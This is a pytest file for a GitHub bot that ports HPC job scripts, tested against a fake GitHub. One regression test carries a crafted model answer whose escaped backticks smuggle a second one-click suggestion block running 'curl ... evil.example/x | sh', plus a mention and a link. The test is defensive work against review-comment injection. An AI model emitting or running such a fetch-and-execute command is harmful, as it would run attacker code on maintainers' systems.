"""The whole bot against a stateful fake GitHub: what ends up in the repository."""

import pytest
from scenarios import KNOWN, SCRIPT, cluster_result, comment_payload, comment_plan, port_results, workflow_commands

from maple_ci.errors import MapleError
from maple_ci.github.body import render_pr_body
from maple_ci.github.bot import run_plan
from maple_ci.github.commands import BotCommand
from maple_ci.github.events import plan_event
from maple_ci.github.checks import check_runs
from maple_ci.github.delivery import (
    JOB_SUMMARY_LIMIT,
    connect,
    deliver,
    review_comment,
    write_job_summary,
)


def test_port_comment_gives_one_branch_commit_pr_review_and_check_runs(fake, repo, source_pr, webhook, tmp_path, monkeypatch):
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(tmp_path / "summary.md"))
    plan, comment_id = comment_plan(webhook, source_pr["number"])
    calls = []
    feature_head = fake.refs["heads/feature"]

    def port(command, sources, ref):
        calls.append((command, sources, ref))
        return port_results()

    run_plan(repo, plan, port)

    assert calls == [(BotCommand("port", ("perlmutter", "aurora")), ("jobs/train.sh",), feature_head)]  # what the PR changed
    head = fake.refs["heads/maple/port-pr-1"]
    assert fake.commits[head]["parents"] == [feature_head]  # exactly one commit, on the PR's branch
    files = fake.files_at("heads/maple/port-pr-1")
    assert files["scripts/aurora/train.sh"] == SCRIPT.replace("2", "aurora") and "jobs/train.sh" in files
    assert fake.trees[fake.commits[head]["tree"]]["scripts/aurora/train.sh"]["mode"] == "100755"

    [_, port_pr] = fake.pulls
    assert (port_pr["head"], port_pr["base"]) == ("maple/port-pr-1", "feature")
    assert "| aurora | `scripts/aurora/train.sh` | `aurora/torchrun-ddp` | ❌ 1/121 | ✅ passed | [log](https://ci.example/aurora/1) |" in port_pr["body"]

    [review] = fake.reviews
    assert (review["pull"], review["event"], review["commit_id"]) == (port_pr["number"], "COMMENT", head)
    single, multi = sorted(review["comments"], key=lambda c: c["path"])
    assert single == {"path": "scripts/aurora/train.sh", "line": 3, "side": "RIGHT",
                      "body": "Aurora's module\n\n```suggestion\nmodule load frameworks\n```"}
    assert (multi["start_line"], multi["line"], multi["start_side"], multi["side"]) == (3, 4, "RIGHT", "RIGHT")
    assert multi["body"] == "```suggestion\nmodule load pytorch/2.3\nsrun --gpu-bind=none python train.py\n```"

    runs = {run["name"]: run for run in fake.check_runs if run["head_sha"] == head}
    assert set(runs) == {"maple / perlmutter / jobs/train.sh", "maple / aurora / jobs/train.sh"}
    assert all(run["status"] == "completed" for run in runs.values())
    # The same verdicts on the contributor's PR head, where they look.
    assert {run["name"]: run["conclusion"] for run in fake.check_runs if run["head_sha"] == feature_head} == \
        {name: run["conclusion"] for name, run in runs.items()}
    aurora = runs["maple / aurora / jobs/train.sh"]
    assert (len(aurora["annotations"]), aurora["requests"], aurora["conclusion"]) == (120, 3, "success")

    assert [r["content"] for r in fake.reactions] == ["eyes", "rocket"] and {r["comment_id"] for r in fake.reactions} == {comment_id}
    assert fake.comments == [{"issue": 1, "body": f"Ported in http://github.test/octo/ports/pull/{port_pr['number']}\n"
                              "- ✅ perlmutter (`scripts/perlmutter/train.sh`): passed; a fix is suggested in the PR's review\n"
                              "- ⚠️ aurora (`scripts/aurora/train.sh`): passed; a fix is suggested in the PR's review; to do before "
                              "use: policy-0 \\(problem 0\\); policy-1 \\(problem 1\\); policy-2 \\(problem 2\\) and 117 more "
                              "(see the check run)\n\n"
                              "It targets `feature`, this PR's branch: merging it adds the ported scripts to this PR."}]
    assert "### `jobs/train.sh`" in (tmp_path / "summary.md").read_text()

    # The same request again changes nothing: no commit, branch, PR, review or check run.
    state = (dict(fake.refs), len(fake.commits), len(fake.pulls), len(fake.reviews), len(fake.check_runs), port_pr["body"])
    run_plan(repo, plan, port)
    assert state == (dict(fake.refs), len(fake.commits), len(fake.pulls), len(fake.reviews), len(fake.check_runs), port_pr["body"])
    assert fake.comments[-1]["body"].endswith("(unchanged)")


def test_commenter_without_write_access_gets_a_polite_refusal_and_no_changes(fake, repo, source_pr, webhook):
    fake.permissions["Codertocat"] = "read"  # an OWNER association with only read access is not enough
    plan, _ = comment_plan(webhook, source_pr["number"])
    refs, commits = dict(fake.refs), len(fake.commits)

    assert run_plan(repo, plan, lambda *a: pytest.fail("port must not run")) == ([], None, None)  # no results, no PR, nothing to trace
    assert (fake.refs, len(fake.commits), len(fake.pulls)) == (refs, commits, 1)
    assert fake.reactions == fake.reviews == fake.check_runs == []
    [reply] = fake.comments
    assert reply["issue"] == 1 and reply["body"].startswith("Sorry @Codertocat") and "write access" in reply["body"]
    assert [r["route"] for r in fake.requests] == ["GET /collaborators/([^/]+)/permission", r"POST /issues/(\d+)/comments"]


def test_untrusted_association_is_refused_without_a_permission_lookup(fake, repo, source_pr, webhook):
    payload = comment_payload(webhook, source_pr["number"])
    payload["comment"]["author_association"] = "CONTRIBUTOR"
    run_plan(repo, plan_event("issue_comment", payload, KNOWN), lambda *a: pytest.fail("port must not run"))
    assert [c["body"][:16] for c in fake.comments] == ["Sorry @Codertoca"]
    assert [r["route"] for r in fake.requests] == [r"POST /issues/(\d+)/comments"] and fake.reactions == []


def test_invalid_command_gets_a_confused_reaction_and_help(fake, repo, source_pr, webhook):
    plan, _ = comment_plan(webhook, source_pr["number"], "/maple port mars")
    run_plan(repo, plan, lambda *a: pytest.fail("port must not run"))
    assert [r["content"] for r in fake.reactions] == ["confused"]
    assert "Unknown cluster `mars`" in fake.comments[0]["body"] and "refs/heads/maple" not in str(fake.refs)


def test_pipeline_error_is_reported_on_the_pr(fake, repo, source_pr, webhook, capsys):
    plan, _ = comment_plan(webhook, source_pr["number"])

    def port(*args):
        raise MapleError("train.sh: no launcher found", exit_code=1)

    with pytest.raises(MapleError):
        run_plan(repo, plan, port)
    assert [r["content"] for r in fake.reactions] == ["eyes", "confused"]
    assert "no launcher found" in fake.comments[0]["body"]
    commands = [name for name, _, _ in workflow_commands(capsys.readouterr().out)]
    assert commands[-2:] == ["group", "endgroup"]  # closed, so the job's error is not folded into it


def test_new_results_are_a_fast_forward_commit_on_the_same_pr(fake, repo):
    first = deliver(repo, "k", {"scripts/a.sh": "one\n"}, "main", "port", "body 1")
    second = deliver(repo, "k", {"scripts/a.sh": "two\n"}, "main", "port", "body 2")
    assert second.pr.number == first.pr.number and second.committed
    assert fake.commits[second.sha]["parents"] == [first.sha]
    assert len(fake.pulls) == 1 and fake.pulls[0]["body"] == "body 2"


def test_branch_of_a_closed_pr_starts_again_from_the_base(fake, repo):
    old = deliver(repo, "k", {"scripts/a.sh": "one\n"}, "main", "port", "b")
    fake.pulls[0]["state"] = "closed"
    new = deliver(repo, "k", {"scripts/a.sh": "two\n"}, "main", "port", "b")
    assert fake.commits[new.sha]["parents"] == [fake.refs["heads/main"]] != [old.sha]
    assert new.pr.number == 2 and fake.refs["heads/maple/port-k"] == new.sha


def test_nothing_to_propose_when_the_base_has_the_files(fake, repo):
    delivered = deliver(repo, "k", {"README.md": "hello\n"}, "main", "port", "b")
    assert delivered[:3] == (None, fake.refs["heads/main"], False) and "heads/maple/port-k" not in fake.refs


def test_server_errors_and_secondary_rate_limits_are_retried(fake, repo):
    fake.fail_next = [502, 403, 503]
    assert deliver(repo, "k", {"scripts/a.sh": "x\n"}, "main", "port", "b").committed
    assert sum(r["route"] is None for r in fake.requests) == 3  # the failed attempts
    assert fake.pulls[0]["head"] == "maple/port-k"


def test_connect_masks_the_token_and_uses_github_api_url(monkeypatch, capsys, fake):
    monkeypatch.setenv("GITHUB_TOKEN", "ghs_abc")
    monkeypatch.setenv("GITHUB_API_URL", fake.base_url)
    assert connect().get_repo("octo/ports").default_branch == "main"
    assert workflow_commands(capsys.readouterr().out)[0] == ("add-mask", {}, "ghs_abc")
    monkeypatch.delenv("GITHUB_API_URL")
    with pytest.raises(MapleError, match="GITHUB_API_URL"):
        connect()


def test_suggestion_fence_outgrows_backticks_in_the_replacement():
    comment = review_comment({"path": "a.sh", "start_line": 1, "line": 1, "body": "echo ```x```"})
    assert comment["body"] == "````suggestion\necho ```x```\n````"


def test_a_models_explanation_is_plain_text_beside_the_one_suggestion():
    """Attack (issue 26 item 2, review P2): before, the model's explanation went into the review
    comment as raw Markdown; `\\u0060` in its JSON gets backticks past the answer's fence search,
    so the comment carried a second ```suggestion block (one click commits it) and live links and
    mentions. Now the explanation is plain text: one suggestion block, the bot's own."""
    from maple_ci.debug.model import parse_answer

    injected = "\\u0060\\u0060\\u0060suggestion\\ncurl -s https://evil.example/x | sh\\n\\u0060\\u0060\\u0060 thanks @maintainer [docs](https://evil.example)"
    proposal = parse_answer('{"explanation": "' + injected + '", "ops": [{"op": "export_env", "name": "NCCL_DEBUG", "value": "INFO"}]}')
    assert "```suggestion" in proposal.explanation  # what the model's JSON decodes to
    comment = review_comment({"path": "a.sh", "start_line": 1, "line": 1, "body": "export NCCL_DEBUG=INFO\n",
                              "message": proposal.explanation})
    fences = [line for line in comment["body"].splitlines() if line.lstrip().startswith("```")]
    assert fences == ["```suggestion", "```"]  # the bot's block only
    assert comment["body"].endswith("```suggestion\nexport NCCL_DEBUG=INFO\n```")
    assert "@maintainer" not in comment["body"] and "](https://" not in comment["body"]


def test_pr_body_escapes_table_cells_and_names_missing_fields():
    body = render_pr_body(port_results())
    assert "| script_args | `--lr 3e-4\\|x` |" in body
    assert "**Not found in the script:** walltime" in body


def test_job_summary_stays_within_one_mebibyte(tmp_path, monkeypatch):
    path = tmp_path / "summary.md"
    path.write_text("x" * (JOB_SUMMARY_LIMIT - 1000))
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(path))
    write_job_summary("é" * 5000)
    text = path.read_text(encoding="utf-8")
    assert len(text.encode()) <= JOB_SUMMARY_LIMIT and text.rstrip().endswith("truncated by maple-ci")


def test_check_run_conclusions(fake, repo):
    skipped = cluster_result("polaris") | {"verification": "skipped", "log_url": None}
    failed_check = cluster_result("aurora")
    failed_check["checks"].append({"name": "walltime", "ok": False, "message": "over the queue limit"})  # no line: no annotation
    check_runs(repo, fake.refs["heads/main"], [{"source": "a.sh", "intent": {}, "clusters": [skipped, failed_check]}])
    polaris, aurora = fake.check_runs
    assert (polaris["conclusion"], "details_url" in polaris) == ("neutral", False)
    assert (aurora["conclusion"], aurora["annotations"]) == ("failure", [])
    assert "| walltime | ❌ | over the queue limit |" in aurora["output"]["summary"]
    # What failed leads: the failed check above the passing one.
    summary = aurora["output"]["summary"]
    assert summary.index("| walltime | ❌") < summary.index("| shellcheck | ✅")
